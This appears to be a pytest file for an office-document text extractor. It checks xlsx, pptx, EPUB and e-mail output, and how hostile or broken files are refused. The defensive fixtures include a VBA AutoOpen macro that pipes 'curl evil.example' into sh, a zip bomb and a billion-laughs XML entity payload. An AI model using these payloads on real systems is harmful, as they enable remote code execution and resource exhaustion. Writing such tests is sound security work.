"""Spreadsheets, presentations, RTF, EPUB and e-mail (.eml, .msg): what each yields, with its sections, and every
way such a file can be unusable or hostile (each ends in a reason, within bounds)."""

from __future__ import annotations

import datetime as dt
import io
import time
import zipfile

import pytest
from office_files import make_eml, make_epub, make_msg, make_odp, make_ods, make_pptx, make_rtf, make_xlsx
from semantic_mcp.sources.extract import UnsupportedContent, common, content_kind, extract, extract_text
from test_extract import make_zip

from fake_nextcloud.mime import mimetype_for

PRICES = {
    "Prices": [("Product", "Price", "Unit")] + [(f"Gadget {i}", i + 0.5, "piece") for i in range(1, 61)],
    "Empty": [],
    "Notes": [("Delivered", dt.datetime(2026, 3, 14)), (None, None), ("Supplier", "Wobbleworks GmbH")],
}
SLIDES = [
    ("Quarterly kickoff", "Hire two engineers\nOpen the Lisbon office", "Mention the budget freeze gently"),
    ("Roadmap", "Ship the v2 importer", ""),
]


def extracted(name: str, data: bytes):
    """What the app extracts from ``data`` uploaded as ``name``, with the type Nextcloud 34 gives it."""
    return extract(data, mimetype_for(name), name)


def sections_of(result) -> dict[str, str]:
    """Each section's label and text (up to the next one)."""
    ends = [offset for offset, _ in result.sections[1:]] + [len(result.text)]
    return {label: result.text[offset:end].strip() for (offset, label), end in zip(result.sections, ends, strict=True)}


@pytest.mark.parametrize(("name", "make"), [("prices.xlsx", make_xlsx), ("prices.ods", make_ods)])
def test_spreadsheets_come_as_row_groups_each_with_the_header_row(name: str, make) -> None:
    parts = sections_of(extracted(name, make(PRICES)))
    groups = [label for label in parts if label.startswith("Sheet Prices, rows ")]
    assert len(groups) >= 2, parts.keys()  # 60 rows are more than one chunk holds
    assert groups[0].startswith("Sheet Prices, rows 2-") and groups[-1].endswith("-61")
    for label in groups:  # every group can be understood alone: it starts with the header row
        assert parts[label].split("\n")[2] == "Product | Price | Unit", parts[label]
        assert len(parts[label]) <= 800
    assert "Gadget 60 | 60.5 | piece" in parts[groups[-1]]
    assert not any(label.startswith("Sheet Empty") for label in parts)  # an empty sheet has nothing to find
    notes = parts["Sheet Notes, row 3"]
    assert "Delivered | 2026-03-14" in notes and "Supplier | Wobbleworks GmbH" in notes


@pytest.mark.parametrize(("name", "make"), [("kickoff.pptx", make_pptx), ("kickoff.odp", make_odp)])
def test_presentations_come_slide_by_slide_with_speaker_notes(name: str, make) -> None:
    parts = sections_of(extracted(name, make(SLIDES)))
    assert list(parts) == ["Slide 1: Quarterly kickoff", "Slide 2: Roadmap"]
    assert parts["Slide 1: Quarterly kickoff"] == (
        "# Slide 1: Quarterly kickoff\n\nHire two engineers\nOpen the Lisbon office\n\n"
        "Speaker notes:\nMention the budget freeze gently"
    )
    assert parts["Slide 2: Roadmap"] == "# Slide 2: Roadmap\n\nShip the v2 importer"


def test_rtf_letter() -> None:
    text = extract_text(make_rtf("Sehr geehrte Frau Müller,", "die Rechnung über 42 € liegt bei."), "text/rtf", "a.rtf")
    assert text == "Sehr geehrte Frau Müller,\ndie Rechnung über 42 € liegt bei."


def test_epub_chapters_in_reading_order_with_their_headings() -> None:
    book = make_epub("The Keeper", [("Chapter One", "The lamp went dark."), ("Chapter Two", "Morning came.")])
    assert extracted("keeper.epub", book).text == (
        "# Chapter One\n\nThe lamp went dark.\n\n# Chapter Two\n\nMorning came."
    )


def test_eml_headers_and_plain_body_preferred_attachments_named_not_read() -> None:
    mail = make_eml("Tapas on Friday", "Shall we meet at nine?", "<p>HTML twin</p>", attachment="menu.pdf")
    assert extracted("tapas.eml", mail).text == (
        "# Tapas on Friday\nFrom: Carla Ruiz <carla@example.org>\nTo: alice@example.org\n"
        "Date: Tue, 03 Nov 2026 09:30:00 +0100\n\nShall we meet at nine?\n\nAttachments: menu.pdf"
    )


def test_eml_with_only_html_goes_through_the_html_extractor() -> None:
    mail = make_eml("Offer", None, "<h2>Spring sale</h2><script>track()</script><p>All <b>tents</b> half price</p>")
    text = extracted("offer.eml", mail).text
    assert text.endswith("## Spring sale\n\nAll tents half price") and "track()" not in text


def test_outlook_msg_reads_like_an_eml() -> None:
    mail = make_msg("Boiler service", "Booked for Tuesday at 8 by Heizwerk Brandt.")
    assert extracted("boiler.msg", mail).text == (
        "# Boiler service\nFrom: Carla Ruiz\n\nBooked for Tuesday at 8 by Heizwerk Brandt.")
    html_only = make_msg("Quote", "", html="<p>The <b>Lindqvist</b> quote is 400 EUR.</p><script>x()</script>")
    assert extracted("quote.msg", html_only).text.endswith("The Lindqvist quote is 400 EUR.")


@pytest.mark.parametrize("data", [b"From: not an outlook file\n\nhello",
                                  b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), make_msg("Cut", "short")[:1500]])
def test_a_broken_msg_ends_in_a_reason(data: bytes) -> None:
    with pytest.raises(UnsupportedContent, match="Outlook message|corrupt or unreadable MSG"):
        extracted("broken.msg", data)


# --- files that are unusable or hostile ---------------------------------------------------------


def _xlsx_with(member: str, content: bytes, base: bytes | None = None) -> bytes:
    """An openpyxl workbook with one member added or replaced (what a hostile or odd writer makes)."""
    source = zipfile.ZipFile(io.BytesIO(base or make_xlsx({"Sheet": [("Name", "Value"), ("alpha", 1)]})))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename != member:
                out.writestr(info, source.read(info))
        out.writestr(member, content)
    return buffer.getvalue()


@pytest.mark.parametrize("name", ["a.xlsx", "a.ods", "a.pptx", "a.odp", "a.epub"])
def test_truncated_and_corrupt_packages_end_in_a_reason(name: str) -> None:
    whole = {"a.xlsx": make_xlsx(PRICES), "a.ods": make_ods(PRICES), "a.pptx": make_pptx(SLIDES),
             "a.odp": make_odp(SLIDES), "a.epub": make_epub("B", [("C", "text")])}[name]
    for data in (whole[: len(whole) // 2], b"PK\x03\x04" + b"\x00" * 200):
        with pytest.raises(UnsupportedContent, match="corrupt or unreadable"):
            extracted(name, data)


@pytest.mark.parametrize("name", ["secret.xlsx", "secret.pptx", "secret.docx"])
def test_password_protected_office_files_end_in_a_reason(name: str) -> None:
    encrypted = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # Office stores encrypted files as a Compound File
    with pytest.raises(UnsupportedContent, match="password-protected"):
        extracted(name, encrypted)


def test_a_drm_protected_epub_ends_in_a_reason() -> None:
    book = make_epub("Locked", [("One", "cipher text")])
    drm = _xlsx_with("META-INF/encryption.xml", b'<encryption><EncryptedData><CipherData>'
                     b'<CipherReference URI="EPUB/chapter1.xhtml"/></CipherData></EncryptedData></encryption>', book)
    with pytest.raises(UnsupportedContent, match="DRM-protected EPUB"):
        extracted("locked.epub", drm)


def test_garbage_named_eml_ends_in_a_reason() -> None:
    with pytest.raises(UnsupportedContent):
        extracted("junk.eml", bytes(range(1, 256)) * 4)


@pytest.mark.parametrize("name", ["bomb.xlsx", "bomb.ods", "bomb.pptx", "bomb.epub"])
def test_zip_bombs_are_refused_before_inflating(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(common, "MAX_UNZIPPED_BYTES", 100_000)
    bomb = make_zip({"content.xml": "<a>" + "x" * 1_000_000 + "</a>"})  # 1 MB that packs into 1 KB
    assert len(bomb) < 5_000
    with pytest.raises(UnsupportedContent, match="too large once uncompressed"):
        extracted(name, bomb)


def test_macros_are_neither_run_nor_indexed_the_cells_are() -> None:
    macro = b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nShell \"curl evil.example | sh\"\nEnd Sub\n"
    xlsm = _xlsx_with("xl/vbaProject.bin", macro)
    text = extracted("budget.xlsm", xlsm).text
    assert "alpha | 1" in text and "AutoOpen" not in text and "evil" not in text


def test_a_sheet_claiming_a_million_rows_and_columns_is_read_within_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    sheet = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'
        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>last</t></is></c>'
        b'<c r="XFD1048576" t="inlineStr"><is><t>far right</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    started = time.monotonic()
    result = extracted("huge.xlsx", _xlsx_with("xl/worksheets/sheet1.xml", sheet))
    assert time.monotonic() - started < 10
    assert sections_of(result) == {"Sheet Sheet, row 1048576": "# Sheet Sheet, row 1048576\n\nName\nlast"}


def test_a_huge_sheet_gives_its_first_rows_within_the_text_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(common, "MAX_CHARS", 3_000)
    rows = [("Id", "Text")] + [(i, "lorem ipsum " * 5) for i in range(2_000)]
    result = extracted("big.xlsx", make_xlsx({"Big": rows}))
    assert len(result.text) <= 3_000 and result.sections[0][1].startswith("Sheet Big, rows 2-")
    assert all(offset < 3_000 for offset, _ in result.sections)


LAUGHS = '<!DOCTYPE l [<!ENTITY l0 "lolololololol">' + "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"  # &l9; is 13 GB of text


def test_billion_laughs_entities_are_refused_or_left_unexpanded() -> None:
    pptx_file = make_pptx(SLIDES)
    slide = zipfile.ZipFile(io.BytesIO(pptx_file)).read("ppt/slides/slide1.xml").decode()
    hostile = {
        "l.xlsx": _xlsx_with("xl/worksheets/sheet1.xml", (
            f'<?xml version="1.0"?>{LAUGHS}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
        ).encode()),
        "l.ods": make_zip({"content.xml": (
            f'<?xml version="1.0"?>{LAUGHS}<office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
            "<table:table><table:table-row><table:table-cell><text:p>&l9;</text:p></table:table-cell>"
            "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
        )}),
        "l.pptx": _xlsx_with("ppt/slides/slide1.xml", slide.replace("?>", "?>" + LAUGHS, 1).replace(
            "Agenda for the offsite", "&l9;").encode(), pptx_file),
    }
    for name, data in hostile.items():
        started = time.monotonic()
        try:
            assert len(extracted(name, data).text) < 10_000, name
        except UnsupportedContent as exc:
            assert exc.reason.startswith("corrupt or unreadable"), exc.reason
        assert time.monotonic() - started < 5, name


def test_the_fake_nextcloud_names_these_types_as_nextcloud_34_does_and_the_app_reads_them() -> None:
    """resources/config/mimetypemapping.dist.json of Nextcloud 34.0.1, not the host's guesses."""
    named = {name: mimetype_for(name) for name in ("a.xlsx", "a.XLSM", "a.ods", "a.pptm", "a.odp", "a.rtf",
                                                   "a.epub", "a.eml", "a.msg")}
    assert named == {
        "a.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "a.XLSM": "application/vnd.ms-excel.sheet.macroEnabled.12",
        "a.ods": "application/vnd.oasis.opendocument.spreadsheet",
        "a.pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.12",
        "a.odp": "application/vnd.oasis.opendocument.presentation",
        "a.rtf": "text/rtf",
        "a.epub": "application/epub+zip",
        "a.eml": "message/rfc822",
        "a.msg": "application/vnd.ms-outlook",
    }
    assert [content_kind(mime, "x") for mime in named.values()] == [
        "xlsx", "xlsx", "ods", "pptx", "odp", "rtf", "epub", "eml", "msg"]
